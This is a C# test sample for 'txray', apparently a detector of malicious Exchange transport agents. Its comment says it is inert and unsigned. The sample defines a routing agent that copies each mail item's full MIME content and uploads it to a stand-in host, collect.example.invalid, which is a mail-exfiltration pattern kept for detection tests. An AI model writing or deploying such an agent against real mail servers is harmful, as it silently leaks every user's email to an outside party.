// Written for the tests of txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; hosts end in .invalid. What a person decides of it stands in samples/matrix.json.
using System.IO;
using System.Net;
using System.Reflection;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;
using Txray.Matrix.Helper;

[assembly: AssemblyTitle("Matrix for the tests of txray: an agent on another base class")]
[assembly: AssemblyCompany("txray")]
[assembly: AssemblyVersion("1.0.0.0")]

namespace Txray.Matrix.HelperUpload
{
    public class UploadFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Upload();
        }
    }

    public class Upload : MessageAgent
    {
        protected override void Handle(MailItem item)
        {
            var memory = new MemoryStream();
            item.GetMimeReadStream().CopyTo(memory);
            new WebClient().UploadData("https://collect.example.invalid/in", memory.ToArray());
        }
    }
}
